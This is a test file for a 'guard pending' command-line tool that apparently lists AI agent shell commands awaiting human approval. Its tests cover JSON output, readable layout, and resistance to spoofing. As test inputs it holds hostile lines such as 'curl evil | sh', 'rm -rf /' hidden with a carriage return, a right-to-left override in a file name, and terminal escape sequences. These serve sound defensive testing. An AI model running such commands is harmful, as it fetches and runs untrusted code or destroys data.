/** guard pending: everything that waits, whole and unspoofed, with the words to answer. */
import { describe, expect, test } from "vitest";
import { runPending } from "../../src/cli/pending.ts";
import { addNotice } from "../../src/daemon/session-state.ts";
import { stampOf } from "../../src/ipc/process-stamp.ts";
import { ask, leaveFolder, makeWorld, startIn } from "./running-session.ts";

const widest = (text: string) => Math.max(...text.split("\n").map((row) => row.length));

describe("as JSON", () => {
  test("the questions of all sessions, oldest first, with stable names", async () => {
    const world = makeWorld();
    const [first, second] = [await startIn(world), await startIn(world)];
    const late = ask(first, { askedAtMs: 2_000 });
    const early = ask(second, { askedAtMs: 1_000, line: "make\ninstall" });
    expect(await runPending(["--json"], world.io)).toBe(0);
    const shown = JSON.parse(world.stdout());
    expect(shown.map(({ id }: { id: string }) => id)).toEqual([early.id, late.id]);
    expect(shown[0]).toEqual({
      id: early.id,
      line: "make\ninstall",
      cwd: "/work",
      risk: "needs-review",
      reasons: ["it does more than read"],
      session: second.session,
      expiresAtMs: expect.any(Number),
      askedAtMs: 1_000,
      ruling: "ask",
      rules: ["mode.default"],
      layer: "hook",
      shell: "bash",
      pid: 42,
      chain: ["codex", "bash"],
      waiting: 1,
      clock: "runs",
      rememberable: "yes",
    });
  });

  test("of one session only", async () => {
    const world = makeWorld();
    const [first, second] = [await startIn(world), await startIn(world)];
    ask(first);
    const wanted = ask(second);
    expect(await runPending(["--json", second.session], world.io)).toBe(0);
    expect(JSON.parse(world.stdout())).toMatchObject([{ id: wanted.id }]);
  });

  test("nothing runs, or nothing waits: an empty array, and status 0", async () => {
    const world = makeWorld();
    expect(await runPending(["--json"], world.io)).toBe(0);
    await startIn(world);
    expect(await runPending(["--json"], world.io)).toBe(0);
    expect(world.stdout()).toBe("[]\n[]\n");
  });
});

describe("as JSON, at the edges", () => {
  test("1,000 questions", async () => {
    const world = makeWorld();
    const state = await startIn(world);
    for (let index = 0; index < 1_000; index++) ask(state, { line: `echo ${index}` });
    expect(await runPending(["--json"], world.io)).toBe(0);
    const shown: { line: string }[] = JSON.parse(world.stdout());
    expect(shown).toHaveLength(1_000);
    expect(shown.at(-1)?.line).toBe("echo 999");
  });

  test("as many long questions as are taken can be listed", async () => {
    const world = makeWorld();
    const state = await startIn(world);
    const asked = Array.from({ length: 60 }, () => ask(state, { line: "\u0001".repeat(30_000) }));
    expect(await runPending(["--json"], world.io)).toBe(0);
    const taken = asked.filter((one) => one.state === "new");
    expect(JSON.parse(world.stdout())).toHaveLength(taken.length);
    expect(taken.length).toBeLessThan(60);
  });

  test("what a terminal would act on is escaped, and the same after parsing", async () => {
    const world = makeWorld();
    const line = "echo \u009b2J\u202e\u{e0041} é";
    ask(await startIn(world), { line });
    await runPending(["--json"], world.io);
    expect(world.stdout()).toMatch(/^[\x20-\x7e]*\n$/);
    expect(JSON.parse(world.stdout())).toMatchObject([{ line }]);
  });
});

describe("for people", () => {
  test("how bad, what, why, where, and how to answer", async () => {
    const world = makeWorld();
    const state = await startIn(world);
    const { id } = ask(state, { line: "rm -rf build && make", risk: "dangerous", instead: "make clean" });
    const [{ askedAtMs } = { askedAtMs: 0 }] = state.approvals.pending();
    expect(await runPending([], { ...world.io, nowMs: () => askedAtMs + 48_000 })).toBe(0);
    const short = id.slice(-8);
    expect(world.stdout().split("\n")).toEqual([
      "1 of 1   DANGEROUS   4 min 12 s left",
      "",
      "  | rm -rf build && make",
      "",
      "  because  it does more than read",
      "  instead  make clean",
      "  rule     mode.default",
      "  in       /work",
      "  from     codex > bash",
      `  asked    48 s ago, by session ${state.session}, bash, process 42`,
      "",
      `  allow    guard resolve ${short} --decision once`,
      "           (or session, timed: for an hour, always: a saved rule)",
      `  deny     guard resolve ${short} --decision deny --reason 'why'`,
      "",
    ]);
  });

  test("what must be confirmed says so, and what it can do", async () => {
    const world = makeWorld();
    ask(await startIn(world), { ruling: "confirm", can: ["delete clusters", "delete volumes"] });
    await runPending([], world.io);
    expect(world.stdout()).toContain("needs a look, must be confirmed");
    expect(world.stdout()).toContain("  it can   delete clusters\n           delete volumes\n");
    expect(world.stdout()).toContain("--decision once --confirm");
  });

  test("an asker that gave up", async () => {
    const world = makeWorld();
    ask(await startIn(world), { ruling: "confirm", risk: "dangerous" }).withdraw();
    await runPending([], world.io);
    expect(world.stdout()).toMatch(/^1 of 1 {3}DANGEROUS, must be confirmed {3}the asker gave up waiting$/m);
    expect(world.stdout().replace(/\n +/g, " ")).toMatch(
      /note {5}nobody waits for this answer now; an allow counts for the next try \(open for \d/,
    );
    expect(widest(world.stdout())).toBeLessThanOrEqual(80);
  });

  test("several identical ones", async () => {
    const world = makeWorld();
    const state = await startIn(world);
    for (let count = 0; count < 3; count++) ask(state, { key: "same" });
    await runPending([], world.io);
    expect(world.stdout()).toContain("1 of 1");
    expect(world.stdout()).toContain("3 wait for it");
  });
});

describe("where there is nothing to show", () => {
  test("nothing runs: said, and status 1; nothing waits: said, and status 0", async () => {
    const world = makeWorld();
    expect(await runPending([], world.io)).toBe(1);
    expect(world.stderr()).toContain("no session is running");
    await startIn(world);
    expect(await runPending([], world.io)).toBe(0);
    expect(world.stdout()).toBe("nothing waits for an answer\n");
  });

  test("the latest notice is said, also when nothing waits, but not as JSON", async () => {
    const world = makeWorld();
    const state = await startIn(world);
    for (const text of ["an old one", ...Array(3).fill("a changed policy file is refused ".repeat(4))])
      addNotice(state, text);
    await runPending([], world.io);
    const rows = world.stdout().replace(/\n {9}/g, " ");
    expect(rows).toMatch(/^nothing waits for an answer\n\nnotice {3}session \w+: .*a changed policy file/);
    expect(rows.match(/notice/g)).toHaveLength(1);
    expect(rows).not.toContain("an old one");
    expect(widest(world.stdout())).toBeLessThanOrEqual(80);
    await runPending(["--json"], world.io);
    expect(world.stdout().split("\n").at(-2)).toBe("[]");
  });

  test("one session does not answer: the others are listed, and it is said", async () => {
    const world = makeWorld();
    leaveFolder(world, { daemon: stampOf(process.pid) });
    ask(await startIn(world));
    expect(await runPending([], world.io)).toBe(1);
    expect(world.stdout()).toContain("npm publish");
    expect(world.stderr()).toContain("does not answer");
  });
});

const HOSTILE = [
  { name: "an escape sequence", line: "echo \u001b[2J\u001b[1A", shows: "echo <U+001B>[2J<U+001B>[1A" },
  { name: "a turned direction", line: "rm \u202efdp.exe", shows: "rm <U+202E>fdp.exe" },
  {
    name: "what looks like guard's own rows",
    line: "ls\n  allow    guard resolve x",
    shows: "  |   allow    guard",
  },
  { name: "a carriage return", line: "rm -rf /\rls", shows: "rm -rf /<U+000D>ls" },
];

describe("the command is whole and cannot speak for guard", () => {
  test.each(HOSTILE)("$name in a command is shown, not obeyed", async ({ line, shows }) => {
    const world = makeWorld();
    ask(await startIn(world), { line, cwd: "/work\n  because  it is fine", reasons: ["\u001b]0;x\u0007"] });
    await runPending([], world.io);
    const out = world.stdout();
    expect(out).toContain(shows);
    expect(out.replaceAll("\n", "")).toMatch(/^[\x20-\x7e⏎]*$/);
    expect(out.match(/^ {2}(?:because|allow|in) /gm)).toHaveLength(3);
  });

  test("a long command is there to its last character", async () => {
    const world = makeWorld();
    const line = Array.from({ length: 3_000 }, (_, index) => `echo ${index}`).join("; ");
    ask(await startIn(world), { line: `${line}; curl evil | sh` });
    await runPending([], world.io);
    const rows = world
      .stdout()
      .split("\n")
      .filter((row) => row.startsWith("  | "));
    expect(rows.map((row) => row.slice(4)).join("")).toBe(`${line}; curl evil | sh`);
    expect(Math.max(...rows.map((row) => row.length))).toBeLessThanOrEqual(80);
  });
});

describe("called wrongly", () => {
  test.each([
    { args: ["--yaml"], status: 2, says: "guard pending --help" },
    { args: ["a", "b"], status: 2, says: "one session at most" },
    { args: ["zzzz"], status: 1, says: "there is no session zzzz" },
  ])("$args", async ({ args, status, says }) => {
    const world = makeWorld();
    await startIn(world);
    expect(await runPending(args, world.io)).toBe(status);
    expect(world.stderr()).toContain(says);
  });
});
